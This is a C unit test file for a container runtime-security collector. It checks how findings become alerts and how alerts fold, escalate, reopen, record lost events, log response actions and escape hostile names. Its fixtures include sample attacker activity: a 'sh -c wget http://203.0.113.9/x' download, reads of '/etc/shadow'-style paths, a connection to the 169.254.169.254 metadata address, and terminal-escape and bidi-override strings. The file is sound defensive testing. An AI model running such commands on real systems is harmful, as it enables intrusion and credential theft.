/* test_alert.c - findings become alerts, against a real store. */
#include "tests/collector/people.h"

#include "collector/alert/alert.h"

static const uint64_t t0 = 1795464000ull * 1000000000, minute = 60ull * 1000000000;
static const struct alert_config day = { .fold_ms = 24 * 3600 * 1000 };

static struct alert_change put(struct people *p, const struct people_finding *f, uint64_t seq)
{
	struct alert_change c;

	MUST(store_begin(p->store, &must_err));
	MUST(alert_from_finding(p->store, &day, "agent-1", "host-07", 5, seq, &f->record, &c, &must_err));
	MUST(store_commit(p->store, &must_err));
	return c;
}

/* The alert as JSON; caller frees. */
static cJSON *read_alert(struct people *p, int64_t id)
{
	struct arena *a = arena_new(1 << 20);
	struct store_alert al;
	struct buf out = { 0 };
	struct json j;
	cJSON *doc = NULL;

	MUST(store_alert_get(p->store, id, a, &al, &must_err));
	json_init(&j, &out);
	alert_json(&j, &al);
	assert_false(out.failed);
	MUST(json_parse(buf_slice(&out), out.n, &doc, &must_err));
	buf_fini(&out);
	arena_free(a);
	return doc;
}

static const char *at(const cJSON *o, const char *a, const char *b, const char *c)
{
	o = cJSON_GetObjectItemCaseSensitive(o, a);
	o = b ? cJSON_GetObjectItemCaseSensitive(o, b) : o;
	o = c ? cJSON_GetObjectItemCaseSensitive(o, c) : o;
	return cJSON_IsString(o) ? o->valuestring : "(none)";
}

static void an_exec_finding_becomes_an_alert_with_everything_a_person_asks(void **state)
{
	struct people_finding f;

	people_finding(&f, t0);
	struct alert_change c = put(*state, &f, 8);
	assert_true(c.is_new);
	assert_int_equal(c.count, 1);
	cJSON *al = read_alert(*state, c.id);
	assert_string_equal(at(al, "title", NULL, NULL),
			    "`wget` ran in container web-1 (nginx:1.25) on host-07, started by `sh`");
	assert_string_equal(at(al, "severity", NULL, NULL), "high");
	assert_string_equal(at(al, "priority", NULL, NULL), "Error");
	assert_string_equal(at(al, "status", NULL, NULL), "new");
	assert_string_equal(at(al, "source", NULL, NULL), "runtime");
	assert_string_equal(at(al, "first_seen", NULL, NULL), "2026-11-23T20:00:00.000000000Z");
	assert_string_equal(at(al, "container", "name", NULL), "web-1");
	assert_string_equal(at(al, "container", "image_digest", NULL), "sha256:aaaa");
	assert_string_equal(at(al, "process", "cmdline", NULL), "wget -q http://203.0.113.9/x");
	assert_string_equal(at(al, "process", "parent", "cmdline"), "sh -c wget http://203.0.113.9/x");
	assert_string_equal(at(al, "fields", "proc.name", NULL), "wget");
	const cJSON *evidence = cJSON_GetObjectItemCaseSensitive(al, "evidence");
	assert_string_equal(cJSON_GetArrayItem(evidence, 0)->valuestring, "agent-1:5:7");
	cJSON_Delete(al);
}

static void a_full_inbox_takes_repeats_only(void **state)
{
	struct alert_config full = { .fold_ms = 24 * 3600 * 1000, .is_full = true };
	struct people *p = *state;
	struct people_finding f;
	struct alert_change c;

	people_finding(&f, t0);
	MUST(alert_from_finding(p->store, &full, "agent-1", "host-07", 5, 1, &f.record, &c, &must_err));
	assert_int_equal(c.id, 0);
	struct alert_change first = put(p, &f, 2);
	MUST(alert_from_finding(p->store, &full, "agent-1", "host-07", 5, 3, &f.record, &c, &must_err));
	assert_int_equal(c.id, first.id);
	assert_int_equal(c.count, 2);
}

static void repeats_fold_and_keep_the_newest_twenty_events(void **state)
{
	struct people_finding f;
	struct alert_change first, c = { 0 };

	people_finding(&f, t0);
	first = put(*state, &f, 1);
	for (unsigned i = 2; i <= 30; i++) {
		people_finding(&f, t0 + i * minute);
		f.finding.event_seq = 100 + i;
		c = put(*state, &f, i);
		assert_false(c.is_new);
		assert_false(c.is_escalated);
	}
	assert_int_equal(c.id, first.id);
	assert_int_equal(c.count, 30);
	cJSON *al = read_alert(*state, c.id);
	const cJSON *evidence = cJSON_GetObjectItemCaseSensitive(al, "evidence");
	assert_int_equal(cJSON_GetArraySize(evidence), 20);
	assert_string_equal(cJSON_GetArrayItem(evidence, 0)->valuestring, "agent-1:5:130");
	assert_string_equal(at(al, "last_seen", NULL, NULL), "2026-11-23T20:30:00.000000000Z");
	assert_string_equal(at(al, "first_seen", NULL, NULL), "2026-11-23T20:00:00.000000000Z");
	cJSON_Delete(al);
}

static void another_container_host_or_rule_is_another_alert(void **state)
{
	struct people_finding f;
	static char other_id[] = "ffff", other_rule[] = "Shell in container";

	people_finding(&f, t0);
	int64_t a = put(*state, &f, 1).id;
	f.container.id = other_id;
	int64_t b = put(*state, &f, 2).id;
	f.finding.rule = other_rule;
	int64_t c = put(*state, &f, 3).id;
	assert_true(a != b && b != c && a != c);
}

static void a_worse_finding_escalates_and_a_milder_one_does_not_calm(void **state)
{
	struct people_finding f;
	static char critical[] = "CRITICAL", notice[] = "notice";

	people_finding(&f, t0);
	put(*state, &f, 1);
	f.finding.priority = critical;
	struct alert_change up = put(*state, &f, 2);
	assert_true(up.is_escalated);
	f.finding.priority = notice;
	struct alert_change down = put(*state, &f, 3);
	assert_false(down.is_escalated);
	cJSON *al = read_alert(*state, up.id);
	assert_string_equal(at(al, "severity", NULL, NULL), "critical");
	assert_string_equal(at(al, "priority", NULL, NULL), "CRITICAL");
	cJSON_Delete(al);
}

static void new_evidence_opens_a_resolved_alert_again(void **state)
{
	struct people *p = *state;
	struct people_finding f;

	people_finding(&f, t0);
	int64_t id = put(p, &f, 1).id;
	MUST(store_alert_set_status(p->store, id, "resolved", "alice", "alice", &must_err));
	people_finding(&f, t0 + minute);
	struct alert_change c = put(p, &f, 2);
	assert_int_equal(c.id, id);
	assert_true(c.is_reopened);
	assert_int_equal(c.count, 2);
	cJSON *al = read_alert(p, id);
	assert_string_equal(at(al, "status", NULL, NULL), "new");
	assert_string_equal(at(al, "assignee", NULL, NULL), "alice");
	cJSON_Delete(al);
}

static void after_the_fold_time_it_is_a_new_alert(void **state)
{
	struct people_finding f;

	people_finding(&f, t0);
	int64_t id = put(*state, &f, 1).id;
	people_finding(&f, t0 + 25 * 60 * minute);
	struct alert_change c = put(*state, &f, 2);
	assert_true(c.is_new);
	assert_true(c.id != id);
}

static void names_that_containers_choose_cannot_forge_a_sentence(void **state)
{
	struct people_finding f;

	people_finding(&f, t0);
	f.process.name = people_bytes("x`\033[2J\n\xe2\x80\xae");
	f.container.name = people_bytes("web\x80");
	f.process.args = msg_bytes(SLICE_LIT("a\"b\0\xff\0"));
	struct alert_change c = put(*state, &f, 1);
	cJSON *al = read_alert(*state, c.id);
	assert_string_equal(at(al, "title", NULL, NULL),
			    "`x'\\x1b[2J\\n\\u{202e}` ran in container web\\x80 (nginx:1.25) on host-07, "
			    "started by `sh`");
	assert_string_equal(at(al, "process", "cmdline", NULL), "x`\033[2J\n\xe2\x80\xae a\"b \xef\xbf\xbd");
	cJSON_Delete(al);
}

static void a_finding_on_the_host_itself_has_no_container(void **state)
{
	struct people_finding f;

	people_finding(&f, t0);
	f.finding.container = NULL;
	struct alert_change c = put(*state, &f, 1);
	cJSON *al = read_alert(*state, c.id);
	assert_string_equal(at(al, "title", NULL, NULL), "`wget` ran on host-07, started by `sh`");
	assert_true(cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(al, "container")));
	cJSON_Delete(al);
}

static void the_largest_finding_still_becomes_an_alert(void **state)
{
	static char output[LIMIT_OUTPUT_BYTES], args[LIMIT_ARGS_BYTES], value[LIMIT_ARGS_BYTES],
		names[LIMIT_FIELDS][16];
	static Picket__Finding__FieldsEntry entries[LIMIT_FIELDS];
	static Picket__Finding__FieldsEntry *list[LIMIT_FIELDS];
	struct people_finding f;

	people_finding(&f, t0);
	memset(output, 1, sizeof(output) - 1);
	memset(args, 1, sizeof(args));
	memset(value, 1, sizeof(value));
	for (size_t i = 0; i < LIMIT_FIELDS; i++) {
		snprintf(names[i], sizeof(names[i]), "f%zu", i);
		entries[i] = (Picket__Finding__FieldsEntry)PICKET__FINDING__FIELDS_ENTRY__INIT;
		entries[i].key = names[i];
		entries[i].value = msg_bytes(slice_from(value, sizeof(value)));
		list[i] = &entries[i];
	}
	f.finding.output = output;
	f.finding.n_fields = LIMIT_FIELDS;
	f.finding.fields = list;
	f.process.args = msg_bytes(slice_from(args, sizeof(args)));
	struct alert_change c = put(*state, &f, 1);
	cJSON *al = read_alert(*state, c.id);
	assert_null(cJSON_GetObjectItemCaseSensitive(al, "fields"));
	assert_string_equal(at(al, "container", "name", NULL), "web-1");
	cJSON_Delete(al);
}

static void the_collector_can_raise_an_alert_itself(void **state)
{
	struct people *p = *state;
	struct alert_change c;

	MUST(store_begin(p->store, &must_err));
	MUST(alert_from_system(p->store, &day, &p->clk, "Events lost", SEVERITY_MEDIUM, "host-07",
			       "host-07 lost 12 events", "ring_full", &c, &must_err));
	MUST(store_commit(p->store, &must_err));
	cJSON *al = read_alert(p, c.id);
	assert_string_equal(at(al, "source", NULL, NULL), "system");
	assert_string_equal(at(al, "severity", NULL, NULL), "medium");
	assert_string_equal(at(al, "priority", NULL, NULL), "warning");
	assert_string_equal(at(al, "title", NULL, NULL), "host-07 lost 12 events");
	cJSON_Delete(al);
}

static void no_finding_folds_into_what_the_collector_says_itself(void **state)
{
	static char rule[] = "Forged sender", low[] = "INFO";
	struct people *p = *state;
	struct alert_change ours, again;
	struct people_finding f;

	MUST(alert_from_system(p->store, &day, &p->clk, rule, SEVERITY_CRITICAL, "host-07", "An agent forges", "ours", &ours,
			       &must_err));
	/* An agent may call its rules as it likes, and be its own host's. */
	people_finding(&f, clock_unix_ns(&p->clk));
	f.finding.rule = rule;
	f.finding.priority = low;
	f.finding.container = NULL;
	struct alert_change theirs = put(p, &f, 1);
	assert_true(theirs.is_new);
	assert_int_not_equal(theirs.id, ours.id);
	cJSON *al = read_alert(p, ours.id);
	assert_string_equal(at(al, "title", NULL, NULL), "An agent forges");
	assert_string_equal(at(al, "source", NULL, NULL), "system");
	cJSON_Delete(al);
	MUST(alert_from_system(p->store, &day, &p->clk, rule, SEVERITY_CRITICAL, "host-07", "An agent forges", "ours", &again,
			       &must_err));
	assert_int_equal(again.id, ours.id);
	assert_int_equal(again.count, 2);
}

static void a_folded_finding_counts_for_all_it_stands_for(void **state)
{
	struct people_finding f;

	people_finding(&f, t0);
	f.finding.count = 250;
	f.finding.first_unix_ns = t0 - 30000000000;
	struct alert_change c = put(*state, &f, 1);
	assert_int_equal(c.count, 250);
	cJSON *al = read_alert(*state, c.id);
	assert_int_equal(json_get_u64(al, "count", 0), 250);
	assert_string_equal(at(al, "first_seen", NULL, NULL), "2026-11-23T19:59:30.000000000Z");
	assert_string_equal(at(al, "last_seen", NULL, NULL), "2026-11-23T20:00:00.000000000Z");
	assert_string_equal(at(al, "title", NULL, NULL),
			    "`wget` ran in container web-1 (nginx:1.25) on host-07, started by `sh`, 250 times");
	cJSON_Delete(al);
	people_finding(&f, t0 + minute);
	f.finding.count = 50;
	f.finding.first_unix_ns = t0 + 2 * minute; /* after the last: of no use */
	c = put(*state, &f, 2);
	assert_false(c.is_new);
	assert_int_equal(c.count, 300);
	/* A match that was told by itself has the alert's words; a later summary only counts. */
	char told[] = "the one that matters", example[] = "an example of many";
	people_finding(&f, t0 + 2 * minute);
	f.finding.output = told;
	put(*state, &f, 9);
	people_finding(&f, t0 + 3 * minute);
	f.finding.count = 7;
	f.finding.output = example;
	c = put(*state, &f, 10);
	assert_int_equal(c.count, 308);
	al = read_alert(*state, c.id);
	assert_string_equal(at(al, "output", NULL, NULL), told);
	cJSON_Delete(al);
	/* As many as a message may say, again and again: the sum ends where JSON readers are exact. */
	for (unsigned i = 0; i < 3; i++) {
		f.finding.count = UINT64_MAX / 2;
		c = put(*state, &f, 3 + i);
	}
	assert_int_equal(c.count, 1ull << 53);
}

static void a_call_says_what_it_did(void **state)
{
	static char opened[] = "openat", connected[] = "connect", tcp[] = "tcp", other[] = "ptrace";
	struct people *p = *state;
	struct people_finding f;
	Picket__File file = PICKET__FILE__INIT;
	Picket__Network net = PICKET__NETWORK__INIT;

	people_finding(&f, t0);
	f.finding.event_type = PICKET__EVENT_TYPE__EVENT_FILE;
	f.finding.call = opened;
	f.finding.result = 3;
	f.finding.file = &file;
	file.path = people_bytes("/etc/sha`dow\n\033[2J");
	cJSON *al = read_alert(p, put(p, &f, 1).id);
	assert_string_equal(at(al, "title", NULL, NULL),
			    "Download tool in container: `wget` opened `/etc/sha'dow\\n\\x1b[2J` in container web-1"
			    " (nginx:1.25) on host-07, started by `sh`");
	assert_string_equal(at(al, "call", NULL, NULL), "openat");
	assert_string_equal(at(al, "file", "path", NULL), "/etc/sha`dow\n\033[2J");
	assert_string_equal(at(al, "summary", NULL, NULL), "openat /etc/sha`dow\n\033[2J (read)");
	cJSON_Delete(al);
	f.finding.event_type = PICKET__EVENT_TYPE__EVENT_NETWORK;
	f.finding.call = connected;
	f.finding.result = 0;
	f.finding.file = NULL;
	f.finding.network = &net;
	net.protocol = tcp;
	net.remote_address = msg_bytes(SLICE_LIT("\xa9\xfe\xa9\xfe"));
	net.remote_port = 80;
	al = read_alert(p, put(p, &f, 2).id);
	assert_string_equal(at(al, "title", NULL, NULL),
			    "Download tool in container: `wget` connected to 169.254.169.254:80 in container web-1"
			    " (nginx:1.25) on host-07, started by `sh`");
	assert_string_equal(at(al, "network", "remote_address", NULL), "169.254.169.254");
	cJSON_Delete(al);
	f.finding.event_type = PICKET__EVENT_TYPE__EVENT_CALL;
	f.finding.call = other;
	f.finding.result = -1;
	f.finding.network = NULL;
	al = read_alert(p, put(p, &f, 3).id);
	assert_string_equal(at(al, "title", NULL, NULL),
			    "Download tool in container: `wget` tried ptrace (EPERM) in container web-1"
			    " (nginx:1.25) on host-07, started by `sh`");
	assert_string_equal(at(al, "result", NULL, NULL), "EPERM");
	cJSON_Delete(al);
}

static struct alert_change lose(struct people *p, int class, uint64_t lost, const char *reason,
				const char *noisiest, uint64_t from, uint64_t seq)
{
	Picket__Gap gap = PICKET__GAP__INIT;
	Picket__Record rec = PICKET__RECORD__INIT;
	struct alert_change c;

	gap.loss_class = (Picket__LossClass)class;
	gap.lost = lost;
	gap.from_unix_ns = from;
	gap.to_unix_ns = from + 5000000000;
	gap.reason = (char *)(uintptr_t)reason;
	gap.noisiest = people_bytes(noisiest);
	rec.time_unix_ns = from + 6000000000;
	rec.body_case = PICKET__RECORD__BODY_GAP;
	rec.gap = &gap;
	MUST(store_begin(p->store, &must_err));
	MUST(alert_from_gap(p->store, &day, "agent-1", "host-07", 5, seq, &rec, &c, &must_err));
	MUST(store_commit(p->store, &must_err));
	return c;
}

static void loss_is_one_alert_per_host_and_class_with_sums(void **state)
{
	struct people *p = *state;
	struct alert_change first = lose(p, PICKET__LOSS_CLASS__LOSS_VOLUME, 100, "ring_full", "web-1", t0, 1);
	struct alert_change second =
		lose(p, PICKET__LOSS_CLASS__LOSS_VOLUME, 20, "spool_full", "db`\033[2J", t0 + minute, 2);
	struct alert_change third = lose(p, PICKET__LOSS_CLASS__LOSS_VOLUME, 3, "ring_full", "web-1", t0 - minute, 3);
	struct alert_change process = lose(p, PICKET__LOSS_CLASS__LOSS_PROCESS, 1, "ring_full", "", t0, 4);

	assert_true(first.is_new && !second.is_new && !third.is_new && process.is_new);
	assert_int_equal(second.id, first.id);
	assert_int_equal(third.count, 3);
	cJSON *al = read_alert(p, first.id);
	const cJSON *gap = cJSON_GetObjectItemCaseSensitive(al, "gap");
	assert_string_equal(at(al, "title", NULL, NULL),
			    "Events lost on host-07: 123 volume records (ring_full), noisiest `web-1`");
	assert_string_equal(at(al, "rule", NULL, NULL), "Events lost");
	assert_string_equal(at(al, "source", NULL, NULL), "system");
	assert_string_equal(at(al, "severity", NULL, NULL), "medium");
	assert_string_equal(at(al, "agent", NULL, NULL), "agent-1");
	assert_int_equal(json_get_u64(gap, "lost", 0), 123);
	assert_int_equal(json_get_u64(gap, "gaps", 0), 3);
	assert_string_equal(at(gap, "class", NULL, NULL), "volume");
	assert_string_equal(at(gap, "from", NULL, NULL), "2026-11-23T19:59:00.000000000Z");
	assert_string_equal(at(gap, "to", NULL, NULL), "2026-11-23T20:01:05.000000000Z");
	assert_int_equal(json_get_u64(cJSON_GetObjectItemCaseSensitive(gap, "reasons"), "ring_full", 0), 103);
	assert_int_equal(json_get_u64(cJSON_GetObjectItemCaseSensitive(gap, "sources"), "db'\\x1b[2J", 0), 20);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(al, "evidence")), 3);
	cJSON_Delete(al);
	al = read_alert(p, process.id);
	assert_string_equal(at(al, "severity", NULL, NULL), "high");
	assert_string_equal(at(al, "title", NULL, NULL), "Events lost on host-07: 1 process records (ring_full)");
	cJSON_Delete(al);
}

static void loss_goes_on_counting_after_resolved_and_whatever_the_names_are(void **state)
{
	struct people *p = *state;
	char name[32];
	int64_t id = lose(p, PICKET__LOSS_CLASS__LOSS_RARE, UINT64_MAX, "ring_full", "a", t0, 1).id;

	MUST(store_alert_set_status(p->store, id, "resolved", "alice", "alice", &must_err));
	assert_true(lose(p, PICKET__LOSS_CLASS__LOSS_RARE, UINT64_MAX, "ring_full", "a", t0, 2).is_reopened);
	for (unsigned i = 0; i < 30; i++) {
		snprintf(name, sizeof(name), "name-%u", i);
		assert_int_equal(lose(p, PICKET__LOSS_CLASS__LOSS_RARE, i, name, name, t0, 3 + i).id, id);
	}
	cJSON *al = read_alert(p, id);
	const cJSON *gap = cJSON_GetObjectItemCaseSensitive(al, "gap");
	assert_int_equal(json_get_u64(gap, "lost", 0), 1ull << 53);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(gap, "reasons")), 8);
	assert_string_equal(at(gap, "noisiest", NULL, NULL), "a");
	cJSON_Delete(al);
}

static void a_finding_cannot_pass_for_loss(void **state)
{
	static char rule[] = "Events lost", none[] = "";
	struct people_finding f;
	int64_t id = lose(*state, PICKET__LOSS_CLASS__LOSS_PROCESS, 5, "ring_full", "", t0, 1).id;

	people_finding(&f, t0);
	f.finding.rule = rule;
	f.container.id = none;
	assert_true(put(*state, &f, 2).id != id);
}

static void act_why(struct people *p, const struct people_finding *f, unsigned seq, const char *kind, bool is_dry,
		    const char *why)
{
	Picket__Record rec = PICKET__RECORD__INIT;
	Picket__Event ev = PICKET__EVENT__INIT;
	Picket__Action action = PICKET__ACTION__INIT;

	ev.type = PICKET__EVENT_TYPE__EVENT_ACTION;
	ev.process = (Picket__Process *)(uintptr_t)&f->process;
	ev.container = (Picket__Container *)(uintptr_t)&f->container;
	ev.action = &action;
	action.kind = (char *)(uintptr_t)kind;
	action.rule = f->finding.rule;
	action.dry_run = is_dry;
	action.done = !why[0];
	action.why = (char *)(uintptr_t)why;
	action.took_ns = 1234000;
	rec.time_unix_ns = t0 + seq;
	rec.body_case = PICKET__RECORD__BODY_EVENT;
	rec.event = &ev;
	MUST(store_begin(p->store, &must_err));
	MUST(alert_add_action(p->store, &day, "agent-1", "host-07", 5, seq, &rec, &must_err));
	MUST(store_commit(p->store, &must_err));
}

static void act(struct people *p, const struct people_finding *f, unsigned seq, const char *kind, bool is_dry)
{
	act_why(p, f, seq, kind, is_dry, is_dry ? "dry run" : "");
}

static void a_dry_run_says_what_would_have_stood_in_the_way(void **state)
{
	static const struct {
		bool is_dry;
		const char *why, *text;
	} rows[] = {
		{ true, "dry run", "dry run: would kill wget (pid 42)" },
		{ true, "protected: the agent itself", "dry run: would not kill wget (pid 42): protected: the agent itself" },
		{ false, "already gone", "failed: kill wget (pid 42): already gone" },
	};
	struct people *p = *state;
	struct people_finding f;

	people_finding(&f, t0);
	int64_t id = put(p, &f, 1).id;
	for (unsigned i = 0; i < ARRAY_LEN(rows); i++) {
		act_why(p, &f, 2 + i, "kill", rows[i].is_dry, rows[i].why);
		cJSON *al = read_alert(p, id);
		const cJSON *actions = cJSON_GetObjectItemCaseSensitive(al, "actions");
		assert_string_equal(at(cJSON_GetArrayItem(actions, 0), "text", NULL, NULL), rows[i].text);
		cJSON_Delete(al);
	}
}

/* An agent in wrong hands could otherwise have its further findings refused, and itself be silent. */
static void the_longest_responses_leave_room_for_the_longest_finding(void **state)
{
	static char name[LIMIT_NAME_BYTES + 1], why[LIMIT_TEXT_BYTES + 1], output[LIMIT_OUTPUT_BYTES + 1];
	struct people *p = *state;
	struct people_finding f;
	int64_t id = 0;

	memset(name, 1, LIMIT_NAME_BYTES);
	memset(why, 1, LIMIT_TEXT_BYTES);
	memset(output, 1, LIMIT_OUTPUT_BYTES);
	people_finding(&f, t0);
	f.finding.rule = name;
	f.finding.output = output;
	f.finding.description = why;
	f.process.name = f.container.name = people_bytes(name);
	id = put(p, &f, 1).id;
	for (unsigned i = 0; i < 20; i++)
		act_why(p, &f, 2 + i, name, false, why);
	assert_int_equal(put(p, &f, 30).id, id);
	cJSON *al = read_alert(p, id);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(al, "actions")), 20);
	cJSON_Delete(al);
}

static int count_row(void *arg, const struct store_audit *row)
{
	assert_string_equal(row->who, "agent host-07 (rule Download tool in container)");
	++*(unsigned *)arg;
	return 0;
}

static void responses_stand_on_their_alert_whichever_came_first(void **state)
{
	const struct store_query all = { .filter = SLICE_LIT("what=action.*"), .limit = 1000 };
	struct people *p = *state;
	struct people_finding f;
	unsigned rows = 0;
	char cursor[64];

	people_finding(&f, t0);
	act(p, &f, 1, "kill", false);
	act(p, &f, 2, "pause", true);
	int64_t id = put(p, &f, 3).id;
	act(p, &f, 4, "disconnect", false);
	cJSON *al = read_alert(p, id);
	const cJSON *actions = cJSON_GetObjectItemCaseSensitive(al, "actions");
	assert_int_equal(cJSON_GetArraySize(actions), 3);
	assert_string_equal(at(cJSON_GetArrayItem(actions, 0), "text", NULL, NULL),
			    "done: disconnect container web-1 after 1234 us");
	assert_string_equal(at(cJSON_GetArrayItem(actions, 1), "text", NULL, NULL),
			    "dry run: would pause container web-1");
	assert_string_equal(at(cJSON_GetArrayItem(actions, 2), "text", NULL, NULL),
			    "done: kill wget (pid 42) after 1234 us");
	cJSON_Delete(al);
	put(p, &f, 5); /* a repeat keeps them */
	for (unsigned i = 10; i < 40; i++)
		act(p, &f, i, "kill", false);
	al = read_alert(p, id);
	actions = cJSON_GetObjectItemCaseSensitive(al, "actions");
	assert_int_equal(cJSON_GetArraySize(actions), 20);
	assert_string_equal(at(cJSON_GetArrayItem(actions, 0), "event", NULL, NULL), "agent-1:5:39");
	cJSON_Delete(al);
	MUST(store_audit_query(p->store, &all, count_row, &rows, cursor, sizeof(cursor), &must_err));
	assert_int_equal(rows, 33);
}

#define T(fn) cmocka_unit_test_setup_teardown(fn, people_setup, people_teardown)
int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(a_full_inbox_takes_repeats_only, people_setup, people_teardown),
		T(an_exec_finding_becomes_an_alert_with_everything_a_person_asks),
		T(repeats_fold_and_keep_the_newest_twenty_events),
		T(another_container_host_or_rule_is_another_alert),
		T(a_worse_finding_escalates_and_a_milder_one_does_not_calm),
		T(new_evidence_opens_a_resolved_alert_again),
		T(after_the_fold_time_it_is_a_new_alert),
		T(names_that_containers_choose_cannot_forge_a_sentence),
		T(a_finding_on_the_host_itself_has_no_container),
		T(the_largest_finding_still_becomes_an_alert),
		T(the_collector_can_raise_an_alert_itself),
		T(no_finding_folds_into_what_the_collector_says_itself),
		T(a_folded_finding_counts_for_all_it_stands_for),
		T(a_call_says_what_it_did),
		T(loss_is_one_alert_per_host_and_class_with_sums),
		T(loss_goes_on_counting_after_resolved_and_whatever_the_names_are),
		T(a_finding_cannot_pass_for_loss),
		T(responses_stand_on_their_alert_whichever_came_first),
		T(a_dry_run_says_what_would_have_stood_in_the_way),
		T(the_longest_responses_leave_room_for_the_longest_finding),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
